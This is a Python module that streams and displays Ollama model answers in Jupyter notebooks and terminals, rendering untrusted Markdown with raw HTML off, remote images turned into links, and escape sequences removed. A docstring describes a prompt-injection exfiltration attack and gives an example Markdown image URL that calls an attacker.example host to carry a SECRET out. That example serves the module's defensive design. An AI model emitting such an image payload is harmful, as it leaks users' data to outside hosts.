"""Showing a generation: live while it streams, and as a saved output when done.

Model output is untrusted.  In a notebook it is rendered to HTML here, by markdown-it
with raw HTML disabled (``<script>`` and ``<img onerror>`` come out as text, and
``javascript:``/``vbscript:``/``file:`` links are refused), and only that HTML and plain
text are sent to the frontend: there is no ``text/markdown`` that a frontend could render
with raw HTML on.  Nothing in it loads on display: an image from a URL becomes a link the
person may click (see :func:`_image`), so a prompt injection cannot make the browser send
data anywhere by being shown.  In a terminal, escape sequences are removed
(:mod:`ollama_magic.engine.terminal`).

Re-rendering the whole answer at every token is quadratic, so updates are throttled:
at most one per ``interval`` seconds, and never more often than every four times the
previous render took, which keeps the cost of display linear in the answer's length.
On top of that, a display budget (:attr:`NotebookView.budget`): updates are spaced so
that rendering and sending them takes at most that share of one CPU.  On a machine of
one CPU (Binder) the model, the kernel and the Jupyter server share it, and every
millisecond spent re-showing the answer is taken from the model: measured with smollm2
(benchmarks/real_model_cost.py), the kernel spent 6-22 ms of CPU per update of a long
answer and the Jupyter server under 1 ms: 5-8% of the core without a budget.
The final state is always shown, whatever the budget.
"""

from __future__ import annotations

import contextvars
import html
import json
import re
import sys
import threading
import time
from collections.abc import Callable
from typing import Any, TextIO

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from ..engine.result import GenerationResult, TextBuffer
from ..engine.terminal import TerminalText, printable

#: Images that are shown as images: raster pictures carried inside the answer itself.
#: They fetch nothing.  SVG never (it is a document that can hold script and references
#: to other resources); markdown-it's link check already refuses every other ``data:``.
_EMBEDDED_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp)[;,]", re.IGNORECASE)

#: Shown for an image that was not loaded; the link goes where the image would have come from.
_IMAGE_STYLE = "border:1px dashed currentColor;border-radius:3px;padding:0 0.25em"


def _image(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    """An image in an answer: shown only when embedded; any other becomes a visible link.

    ``![](https://attacker.example/c?d=SECRET)`` rendered as ``<img>`` would make the
    browser send SECRET each time the cell is shown (and whenever the notebook is opened
    again), without a click.  So only ``data:`` raster images, which fetch nothing, stay
    images; anything else (http(s), protocol-relative, relative paths) is a link reading
    ``[image not loaded: ALT]`` that the person can follow if they choose.
    """
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    if _EMBEDDED_IMAGE.match(src):
        return f'<img src="{escapeHtml(src)}" alt="{escapeHtml(alt)}" />'
    label = alt.strip() or src
    if len(label) > 80:
        label = label[:79] + "…"
    shown = f"[image not loaded: {escapeHtml(label)}]"
    title = f"image not loaded: {escapeHtml(src)}"
    depth = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
    if depth > 0:  # inside a link already (a linked badge): links cannot nest, the outer one is kept
        return f'<span class="ollama-magic-image" title="{title}" style="{_IMAGE_STYLE}">{shown}</span>'
    return (
        f'<a href="{escapeHtml(src)}" class="ollama-magic-image" title="{title}" '
        f'rel="noopener noreferrer nofollow" style="{_IMAGE_STYLE}">{shown}</a>'
    )


def _link_open(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    """Links open nothing by themselves; when followed, they send no referrer (the notebook's URL)."""
    tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
    return self.renderToken(tokens, idx, options, env)


_markdown = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
_markdown.add_render_rule("image", _image)
_markdown.add_render_rule("link_open", _link_open)

# Inline styles, not a <style> element: JupyterLab strips <style> (and var(--jp-...)
# colours) from outputs of notebooks it does not trust, such as one a colleague shared.
# Opacity rather than a grey colour keeps the footer readable in dark themes too.
_FOOTER_STYLE = "opacity:0.7;font-size:0.85em;margin-top:0.4em"
_STATUS_STYLE = "opacity:0.85;font-style:italic;margin-top:0.4em"
#: A dark red on its own pale red, so the pair is 5.7:1 in every theme (a red on the theme's
#: background cannot be: #c62828 is 5.6:1 on white but 3.4:1 on JupyterLab Dark's #111).
_ERRORS_STYLE = "color:#b3261e;background-color:#fdecea;padding:0.3em 0.6em;border-radius:3px"
#: 0.7, not less: JupyterLab Light's text (87% black) at 0.6 is 4.3:1 on white, under WCAG's 4.5.
_WAITING_STYLE = "opacity:0.7;font-style:italic"
_NOTE_STYLE = "opacity:0.7;font-size:0.85em"


def markdown_to_html(text: str) -> str:
    """Render untrusted Markdown to HTML in which nothing can run."""
    return _markdown.render(text)


#: A line that may be a link reference definition (``[label]: url``), possibly in a quote
#: or a list item.  A definition changes links anywhere in the text, so a text that may
#: hold one is always rendered whole.  Deliberately loose: a false match only costs time.
_REFERENCE = re.compile(r"^[ \t>]*(?:(?:[-+*]|\d{1,9}[.)])[ \t]+)*\[[^\]\n]*\]:", re.MULTILINE)


_PARSE_CHUNK = 32 * 1024


class StreamingMarkdown:
    """Markdown to HTML for a text that only grows, rendering each finished block once.

    A top-level block (paragraph, list, fence, table...) is finished once another one
    has started after it on a complete line: CommonMark closes blocks for good, so what
    follows can only change the last block.  The finished blocks' HTML is kept and only
    the tail is parsed again: ``render(text) == markdown_to_html(text)`` at a cost that
    depends on the text added since the last call, not on the whole answer.  Link
    reference definitions act on the whole text: with one in sight, renders are whole.
    """

    def __init__(self) -> None:
        self._reset()

    def _reset(self) -> None:
        self._done = 0  # characters at the start of the text whose HTML is final
        self._html: list[str] = []
        self._mark = ""  # the characters just before _done, to notice a different text
        self._whole = False

    def render(self, text: str) -> str:
        done = self._done
        if done and (len(text) < done or text[max(0, done - 64) : done] != self._mark):
            self._reset()  # not the text we had: start over
            done = 0
        if not self._whole and _REFERENCE.search(text, done):
            self._whole = True
        if self._whole:
            return markdown_to_html(text)
        tail = text[done:]
        # Parse at most _PARSE_CHUNK characters at a time: the tokens of a big batch of
        # new text (a fast stream, a slow frontend) never take much memory.
        while True:
            end = tail.rfind("\n", 0, _PARSE_CHUNK) + 1
            if not end:
                break
            tokens = _markdown.parse(tail[:end], {})
            starts = [i for i, t in enumerate(tokens) if t.level == 0 and t.nesting >= 0 and t.map]
            if len(starts) < 2:
                break
            last = starts[-1]
            self._html.append(_markdown.renderer.render(tokens[:last], _markdown.options, {}))
            offset = 0
            for _ in range(tokens[last].map[0]):  # type: ignore[index]
                offset = tail.index("\n", offset) + 1
            done += offset
            self._done = done
            self._mark = text[max(0, done - 64) : done]
            parsed_all = end == tail.rfind("\n") + 1
            tail = tail[offset:]
            if parsed_all:
                break
        return "".join(self._html) + markdown_to_html(tail)


def notebook_display() -> Callable[..., Any] | None:
    """IPython's ``display`` when running in a notebook kernel, None elsewhere (a terminal,
    plain Python): every live view (a batch's bar, a pull's bar) picks its kind with this."""
    try:
        from IPython import get_ipython

        shell = get_ipython()
    except ImportError:  # pragma: no cover - IPython is a dependency
        return None
    if shell is None or getattr(shell, "kernel", None) is None:
        return None
    from IPython.display import display

    return display  # type: ignore[no-any-return]


def format_seconds(seconds: float | None) -> str:
    """Short human durations: ``0.012 s`` → ``12 ms``.

    >>> format_seconds(0.0123), format_seconds(2.5), format_seconds(None)
    ('12 ms', '2.50 s', '?')
    """
    if seconds is None:
        return "?"
    if seconds < 1:
        return f"{seconds * 1000:.0f} ms"
    return f"{seconds:.2f} s"


def remote_text(model: str | None, host: str | None) -> str:
    """Who really answered when Ollama passed the request on (a cloud model), without
    any user:password the upstream URL might carry.

    >>> remote_text("gpt-oss:120b", "https://user:key@ollama.com:443")
    'answered by gpt-oss:120b at https://ollama.com:443'
    """
    where = re.sub(r"(?<=://)[^/@]*@", "", host) if host else ""
    return " ".join(bit for bit in ("answered by", model or "a remote model", f"at {where}" if where else "") if bit)


def done_words(result: GenerationResult) -> str | None:
    """Why the answer ended, in words; None when it simply finished (``stop``).

    Ollama's ``done_reason`` is ``stop`` (the model finished, or met a stop sequence),
    ``length`` (a token limit), or ``load``/``unload`` for a request with an empty prompt
    that only loads or unloads the model.

    >>> from ollama_magic.engine.result import Stats
    >>> done_words(GenerationResult("x", "m", done_reason="length", request={"options": {"num_predict": 400}}))
    'cut at --num-predict 400'
    >>> done_words(GenerationResult("x", "m", done_reason="stop")) is None
    True
    """
    reason = result.done_reason
    if not reason or reason == "stop":
        return None
    if reason == "length":
        return _length_words(result)
    return _REASON_WORDS.get(reason, f"ended: {reason}")


_REASON_WORDS = {
    "load": "model loaded (an empty prompt only loads it)",
    "unload": "model unloaded (keep-alive 0 with an empty prompt)",
}


def _length_words(result: GenerationResult) -> str:
    """``done_reason: length`` as what happened, from the request's own limits."""
    options = result.request.get("options") or {}
    limit = options.get("num_predict")
    count = result.stats.eval_count
    if isinstance(limit, int) and not isinstance(limit, bool) and limit > 0 and (count is None or count >= limit):
        return f"cut at --num-predict {limit}"
    num_ctx = options.get("num_ctx")
    used = (result.stats.prompt_eval_count or 0) + (count or 0)
    if limit == -2 or (isinstance(num_ctx, int) and num_ctx > 0 and used >= num_ctx - 1):
        return "cut: the context window is full"
    return "cut at the model's length limit (its num_predict or context window)"


def _count(n: int, noun: str) -> str:
    """``1 token``, ``2 tokens``: the footer is read as a sentence.

    >>> _count(1, "token"), _count(0, "token"), _count(9, "token")
    ('1 token', '0 tokens', '9 tokens')
    """
    return f"{n} {noun}" if n == 1 else f"{n} {noun}s"


def footer_text(result: GenerationResult) -> str:
    """The one-line statistics footer: model, tokens, speed, times, and why it ended
    unless it simply finished.  Notes (``result.notes``) go on lines of their own."""
    stats = result.stats
    bits = [result.model]
    if stats.eval_count is not None:
        bits.append(_count(stats.eval_count, "token"))
    if stats.tokens_per_second is not None:
        bits.append(f"{stats.tokens_per_second:.1f} tok/s")
    if stats.prompt_eval_count is not None:
        bits.append(f"prompt {_count(stats.prompt_eval_count, 'token')}")
    bits.append(f"total {format_seconds(stats.total_seconds)}")
    bits.append(f"load {format_seconds(stats.load_seconds)}")
    words = done_words(result)
    if words:
        bits.append(words)
    if result.remote_model or result.remote_host:
        bits.append(remote_text(result.remote_model, result.remote_host))
    if result.thread is not None:
        bits.append(f"thread {result.thread}")
    return " · ".join(bits)


class Answer:
    """A displayable snapshot of an answer (streaming or final), for IPython's display.

    ``_repr_mimebundle_`` gives ``text/html`` for notebooks and ``text/plain`` for
    everything else.  A structured answer is shown once, as pretty JSON in the model's key
    order with the footer under it.  (No ``application/json``, here or in an output of its
    own: JupyterLab ranks its JSON viewer above HTML, so in the same bundle it hid the
    answer and footer, and as a second output it showed the data twice, keys reordered.
    The parsed value is in the result's ``.data``.)

    ``waiting`` is the line shown before the first token; while ``streaming``, a small
    cursor (a CSS box, so no font can lack it) ends the HTML.  Neither is in a final output.
    """

    def __init__(
        self,
        text: str,
        *,
        thinking: str = "",
        status: str = "",
        footer: str = "",
        notes: list[str] | None = None,
        errors: list[str] | None = None,
        data: Any = None,
        has_data: bool = False,
        streaming: bool = False,
        verbatim: bool = False,
        waiting: str = "",
        markdown: Callable[[str], str] = markdown_to_html,
        thinking_markdown: Callable[[str], str] = markdown_to_html,
        metadata: dict[str, Any] | None = None,
    ) -> None:
        self.metadata = metadata
        self._markdown = markdown
        self._thinking_markdown = thinking_markdown
        self.text = text
        self.thinking = thinking
        self.status = status
        self.footer = footer
        self.notes = notes or []
        self.errors = errors or []
        self.data = data
        self.has_data = has_data
        self.streaming = streaming
        self.verbatim = verbatim
        self.waiting = waiting

    def _body_html(self) -> str:
        if self.has_data:
            pretty = json.dumps(self.data, indent=2, ensure_ascii=False)
            return f"<pre><code>{html.escape(pretty)}</code></pre>"
        if self.verbatim:
            return f"<pre><code>{html.escape(self.text)}</code></pre>" if self.text else ""
        return self._markdown(self.text)

    def html(self) -> str:
        # While it streams, aria-busy tells assistive technology to wait for the whole
        # answer instead of reading each update; the saved (final) output has no attribute.
        parts = ['<div class="ollama-magic" aria-busy="true">' if self.streaming else '<div class="ollama-magic">']
        if self.waiting and not self.text and not self.thinking:
            parts.append(
                f'<div class="ollama-magic-waiting" style="{_WAITING_STYLE}">{html.escape(self.waiting)}</div>'
            )
        if self.thinking:
            opened = " open" if self.streaming and not self.text else ""
            parts.append(
                f"<details{opened}><summary>Thinking</summary>"
                f'<div class="ollama-magic-thinking">{self._thinking_markdown(self.thinking)}</div></details>'
            )
        body = self._body_html()
        parts.append(_with_cursor(body) if self.streaming and self.text else body)
        if self.errors:
            items = "".join(f"<li>{html.escape(e)}</li>" for e in self.errors)
            parts.append(
                f'<div class="ollama-magic-errors" style="{_ERRORS_STYLE}">Schema check failed:<ul>{items}</ul></div>'
            )
        if self.status:
            parts.append(f'<div class="ollama-magic-status" style="{_STATUS_STYLE}">{html.escape(self.status)}</div>')
        if self.footer:
            parts.append(f'<div class="ollama-magic-footer" style="{_FOOTER_STYLE}">{html.escape(self.footer)}</div>')
            for note in self.notes:
                parts.append(f'<div class="ollama-magic-note" style="{_NOTE_STYLE}">{html.escape(note)}</div>')
        parts.append("</div>")
        return "".join(parts)

    def plain(self) -> str:
        lines = []
        if self.waiting and not self.text and not self.thinking:
            lines.append(self.waiting)
        if self.thinking:
            lines.append(f"[thinking]\n{self.thinking}\n[/thinking]")
        lines.append(json.dumps(self.data, indent=2, ensure_ascii=False) if self.has_data else self.text)
        if self.errors:
            lines.append("Schema check failed:\n" + "\n".join(f"  - {e}" for e in self.errors))
        if self.status:
            lines.append(self.status)
        if self.footer:
            lines.append(f"— {self.footer}")
            lines.extend(f"  {note}" for note in self.notes)
        # Shown as it is by terminal frontends (jupyter console) and saved in the notebook:
        # no escape sequences (see ollama_magic.engine.terminal).
        return printable("\n".join(line for line in lines if line))

    def _repr_mimebundle_(self, include: Any = None, exclude: Any = None) -> Any:
        bundle = {"text/plain": self.plain(), "text/html": self.html()}
        # The output's metadata (saved in the .ipynb with it): how the answer was made.
        return (bundle, {"ollama_magic": self.metadata}) if self.metadata else bundle


#: A cursor at the end of a streaming answer: a small box drawn by CSS (no glyph a font
#: could lack), inside the last block so it follows the text.
_CURSOR = (
    '<span class="ollama-magic-cursor" style="display:inline-block;width:0.45em;height:1em;'
    'margin-left:0.1em;vertical-align:text-bottom;background:currentColor;opacity:0.45"></span>'
)
#: The closing tags at the very end of an answer's HTML (``</p>``, ``</code></pre>``...).
_CLOSING_TAGS = re.compile(r"(?:</[a-z][a-z0-9]*>\s*)+$")


def _with_cursor(body: str) -> str:
    """``body`` with the cursor inside its last block (looks only at its last characters)."""
    match = _CLOSING_TAGS.search(body, max(0, len(body) - 160))
    if match is None:
        return body + _CURSOR
    return body[: match.start()] + _CURSOR + body[match.start() :]


def waiting_text(model: str, seconds: float) -> str:
    """The line shown until the first token arrives.

    >>> waiting_text("llama3.2", 12.4)
    'Waiting for llama3.2 (loading it if needed)… 12 s'
    """
    return f"Waiting for {model} (loading it if needed)… {seconds:.0f} s"


class View:
    """Where a generation is shown.  Subclasses decide how; the magic only calls these."""

    def chunk(self, piece: str, thought: str) -> None:
        """A streamed delta arrived."""

    def attempt(self, number: int, total: int) -> None:
        """A new attempt begins (structured output with retries)."""

    def waiting(self, model: str) -> None:
        """The request for ``model`` is on its way; nothing has arrived yet."""

    def finish(
        self, result: GenerationResult, footer: str | None, status: str = "", metadata: dict[str, Any] | None = None
    ) -> None:
        """The attempt ended; ``footer`` is None when statistics are hidden; ``metadata``
        (how the answer was made) goes into the output's metadata where there is one."""

    def notice(self, text: str) -> None:
        """A line about the request itself (e.g. "server busy: retry 2 of 6 in 1.6 s"),
        shown before any answer text; the answer replaces it when it comes."""

    def stopped(self, partial: GenerationResult | None) -> None:
        """The generation failed or was interrupted: show what arrived, and nothing else
        (the error itself is the one message, shown by IPython under the output)."""


class NotebookView(View):
    """Streams into a display handle, updated in place and throttled.

    Before the first token, a waiting line (model, seconds) is shown if nothing has
    arrived after :attr:`wait_delay` seconds, and updated every :attr:`wait_every`
    seconds by a small background thread: the main thread is blocked reading the socket
    then, and a model can take a minute to load.  The delay keeps quick answers (and
    quick errors) from flashing it.  The thread stops at the first token, or when the
    attempt ends, fails or is interrupted; the handle is only ever touched under a lock.
    """

    wait_delay = 0.25
    wait_every = 1.0
    #: The share of one CPU that live updates may take over the stream: once the CPU
    #: time spent rendering and sending updates (after the first) exceeds ``budget_allowance`` plus
    #: ``budget`` times the seconds since the first update, the next one waits until it no
    #: longer does.  The kernel's other costs of streaming (its sending thread, the
    #: per-token work) and the Jupyter server's relaying about double it (measured), and
    #: the browser renders on its own CPU: 0.005 leaves kernel and server at 0.6-1.1% of
    #: the core (benchmarks/real_model_cost.py).  0.003 kept them at 0.45-0.8%, but then
    #: a fast short answer (2,000 tokens in 0.8 s) was seen in JupyterLab only when whole.
    #: The allowance lets the first updates of any answer come at
    #: ``interval``, so even a fast, short answer is seen growing.  None: no budget (only
    #: ``interval`` and four times the render time), as before it existed.
    budget: float | None = 0.005
    budget_allowance = 0.25

    def __init__(
        self,
        display: Callable[..., Any],
        interval: float = 0.05,
        clock: Callable[[], float] = time.monotonic,
        structured: bool = False,
    ) -> None:
        self._display = display
        self.interval = interval
        self._clock = clock
        self._structured = structured
        self._handle: Any = None
        self._parts = TextBuffer()
        self._thoughts = TextBuffer()
        self._markdown = StreamingMarkdown()
        self._thinking_markdown = StreamingMarkdown()
        self._next = 0.0
        self._status = ""
        self._lock = threading.RLock()  # re-entrant: an interrupt can never leave it held against us
        self._waiter: _WaitingLine | None = None
        self._shows_waiting = False  # the handle shows only a waiting line or a notice, no answer
        self._notice = ""
        self.updates = 0
        self.render_seconds = 0.0
        self._first_update: float | None = None  # the view's clock at the attempt's first update
        self._update_cpu = 0.0  # CPU seconds this attempt's updates took (this thread's)

    def attempt(self, number: int, total: int) -> None:
        self._stop_waiting()
        self._handle = None
        self._parts = TextBuffer()
        self._thoughts = TextBuffer()
        self._markdown = StreamingMarkdown()
        self._thinking_markdown = StreamingMarkdown()
        self._next = 0.0
        self._first_update = None
        self._update_cpu = 0.0
        self._notice = ""
        self._status = f"attempt {number} of {total}" if total > 1 else ""

    def waiting(self, model: str) -> None:
        self._stop_waiting()
        self._waiter = _WaitingLine(self, model)

    def _show_waiting(self, waiter: _WaitingLine, seconds: float) -> None:
        """Called by the waiting line's thread."""
        with self._lock:
            if self._waiter is waiter and not waiter.stopped.is_set():
                status = " · ".join(s for s in (self._status, self._notice) if s)
                self._show_locked(Answer("", status=status, waiting=waiting_text(waiter.model, seconds)))
                self._shows_waiting = True

    def _stop_waiting(self) -> None:
        waiter = self._waiter
        if waiter is not None:
            self._waiter = None
            waiter.stop()

    def chunk(self, piece: str, thought: str) -> None:
        if self._waiter is not None:
            self._stop_waiting()
        if piece:
            self._parts.append(piece)
        if thought:
            self._thoughts.append(thought)
        now = self._clock()
        if now >= self._next:
            cpu = time.thread_time()
            self._show(
                Answer(
                    str(self._parts),
                    thinking=str(self._thoughts),
                    status=self._status,
                    streaming=True,
                    verbatim=self._structured,
                    markdown=self._markdown.render,
                    thinking_markdown=self._thinking_markdown.render,
                )
            )
            spent = self._clock() - now
            self._next = now + max(self.interval, 4 * spent)
            # The budget counts this thread's CPU time, not the wall clock: on a busy machine
            # a render waits for the CPU longer without costing anyone more.
            if self._first_update is None:
                # Not counted: the first update makes the output (it would be made anyway) and,
                # in a fresh kernel, pays one-off costs (imports, compiled patterns).
                self._first_update = now
            else:
                self._update_cpu += time.thread_time() - cpu
            if self.budget:
                within = self._first_update + (self._update_cpu - self.budget_allowance) / self.budget
                self._next = max(self._next, within)

    def notice(self, text: str) -> None:
        self._notice = text
        with self._lock:
            waiter = self._waiter
            before_text = not (self._parts or self._thoughts)
            waiting = waiting_text(waiter.model, time.monotonic() - waiter.started) if waiter and before_text else ""
            self._show_locked(
                Answer(str(self._parts), thinking=str(self._thoughts), status=text, streaming=True, waiting=waiting)
            )
            self._shows_waiting = before_text

    def _show(self, answer: Answer) -> None:
        with self._lock:
            self._show_locked(answer)

    def _show_locked(self, answer: Answer) -> None:
        start = time.perf_counter()
        if self._handle is None:
            self._handle = self._display(answer, display_id=True)
        else:
            self._handle.update(answer)
        self._shows_waiting = False
        self.updates += 1
        self.render_seconds += time.perf_counter() - start

    def finish(
        self, result: GenerationResult, footer: str | None, status: str = "", metadata: dict[str, Any] | None = None
    ) -> None:
        self._stop_waiting()
        prefix = self._status
        # The result holds the text now: drop the streamed copy before the final render.
        self._parts = TextBuffer()
        self._thoughts = TextBuffer()
        structured_ok = bool(result.request.get("format")) and result.complete and not result.errors
        self._show(
            Answer(
                result.text,
                thinking=result.thinking or "",
                status=" · ".join(s for s in (prefix, status) if s),
                footer=footer or "",
                notes=result.notes,
                errors=result.errors,
                data=result.data,
                has_data=structured_ok,
                verbatim=bool(result.request.get("format")),
                markdown=self._markdown.render,
                thinking_markdown=self._thinking_markdown.render,
                metadata=metadata,
            )
        )

    def stopped(self, partial: GenerationResult | None) -> None:
        self._stop_waiting()
        if partial is None or not (partial.text or partial.thinking):
            if self._shows_waiting:  # nothing arrived: the waiting line goes, nothing replaces it
                self._show(Answer("", status=self._status))
            return
        self._parts = TextBuffer()
        self._thoughts = TextBuffer()
        self._show(
            Answer(
                partial.text,
                thinking=partial.thinking or "",
                status=self._status,
                verbatim=bool(partial.request.get("format")),
                markdown=self._markdown.render,
                thinking_markdown=self._thinking_markdown.render,
            )
        )


class _WaitingLine:
    """The background thread that shows and updates a view's waiting line (a notebook's,
    or an interactive terminal's).

    It runs in a copy of the caller's context, so ipykernel sends its updates as part of
    the running cell.  It only waits on an Event and calls the view, so stopping it is
    immediate; it is a daemon thread so it can never keep the kernel alive.
    """

    def __init__(self, view: NotebookView | TerminalView, model: str) -> None:
        self.view = view
        self.model = model
        self.started = time.monotonic()
        self.stopped = threading.Event()
        context = contextvars.copy_context()
        self.thread = threading.Thread(target=context.run, args=(self._run,), name="ollama-magic-waiting", daemon=True)
        self.thread.start()

    def _run(self) -> None:
        delay = self.view.wait_delay
        while not self.stopped.wait(delay):
            try:
                self.view._show_waiting(self, time.monotonic() - self.started)
            except Exception:  # a display that fails here must not kill the cell; the answer still shows
                return
            delay = self.view.wait_every

    def stop(self) -> None:
        """Stop the thread; an update it is making finishes first (under the view's lock)."""
        self.stopped.set()
        if self.thread is not threading.current_thread():
            self.thread.join(timeout=5)


class TerminalView(View):
    """Writes the text as it arrives, for terminal IPython (no display handles there).

    Everything from the server passes through :mod:`ollama_magic.engine.terminal` first, so an
    answer cannot send escape sequences to the terminal, even split across chunks.
    """

    #: Seconds before the waiting line appears (a loaded model answers sooner), and
    #: between its updates.  Only on an interactive terminal: a pipe or a log file gets
    #: the answer alone.
    wait_delay = 1.0
    wait_every = 1.0

    def __init__(self, stream: TextIO | None = None, interval: float = 0.05) -> None:
        self._stream = stream
        self.interval = interval
        self._next = 0.0
        self._thinking = False
        self._written = 0
        self._text = TerminalText()
        self._thought = TerminalText()
        self._lock = threading.Lock()
        self._waiter: _WaitingLine | None = None
        self._waiting_width = 0  # characters of the waiting line now on screen

    @property
    def out(self) -> TextIO:
        return self._stream or sys.stdout

    def waiting(self, model: str) -> None:
        self._stop_waiting()
        try:
            interactive = self.out.isatty()
        except (AttributeError, ValueError):  # a closed or unusual stream
            interactive = False
        if interactive:
            self._waiter = _WaitingLine(self, model)

    def _show_waiting(self, waiter: _WaitingLine, seconds: float) -> None:
        """Called by the waiting line's thread: the line is rewritten in place (a carriage
        return, no escape sequence), padded over what it replaces."""
        with self._lock:
            if self._waiter is waiter and not waiter.stopped.is_set():
                line = waiting_text(printable(waiter.model), seconds)
                self.out.write("\r" + line.ljust(self._waiting_width))
                self.out.flush()
                self._waiting_width = len(line)

    def _stop_waiting(self) -> None:
        """Stop the waiting line and blank it, before anything else is written."""
        waiter = self._waiter
        if waiter is not None:
            self._waiter = None
            waiter.stop()
        if self._waiting_width:
            with self._lock:
                self.out.write("\r" + " " * self._waiting_width + "\r")
                self._waiting_width = 0

    def attempt(self, number: int, total: int) -> None:
        self._stop_waiting()
        if total > 1:
            self.out.write(f"[attempt {number} of {total}]\n")
        self._written = 0
        self._text = TerminalText()
        self._thought = TerminalText()

    def _end_thinking(self, out: TextIO) -> None:
        if self._thinking:
            out.write(self._thought.flush() + "\n[/thinking]\n")
            self._thinking = False

    def notice(self, text: str) -> None:
        if text:
            self._stop_waiting()
            self.out.write(f"[{text}]\n")
            self.out.flush()

    def chunk(self, piece: str, thought: str) -> None:
        if self._waiter is not None or self._waiting_width:
            self._stop_waiting()
        out = self.out
        if thought:
            if not self._thinking:
                out.write("[thinking]\n")
                self._thinking = True
            out.write(self._thought.feed(thought))
        if piece:
            self._end_thinking(out)
            out.write(self._text.feed(piece))
            self._written += len(piece)
        now = time.monotonic()
        if now >= self._next:
            out.flush()
            self._next = now + self.interval

    def finish(
        self, result: GenerationResult, footer: str | None, status: str = "", metadata: dict[str, Any] | None = None
    ) -> None:
        self._stop_waiting()
        out = self.out
        self._end_thinking(out)
        out.write(self._text.feed(result.text[self._written :]))  # all of it for `stream: false`
        out.write(self._text.flush())
        out.write("\n")
        if result.errors:
            out.write("Schema check failed:\n" + "".join(f"  - {printable(e)}\n" for e in result.errors))
        if status:
            out.write(printable(status) + "\n")
        if footer:
            out.write(f"— {printable(footer)}\n")
            for note in result.notes:
                out.write(f"  {printable(note)}\n")
        out.flush()

    def stopped(self, partial: GenerationResult | None) -> None:
        self._stop_waiting()
        if partial is not None and (partial.text or partial.thinking or self._thinking):
            self.finish(partial, None)
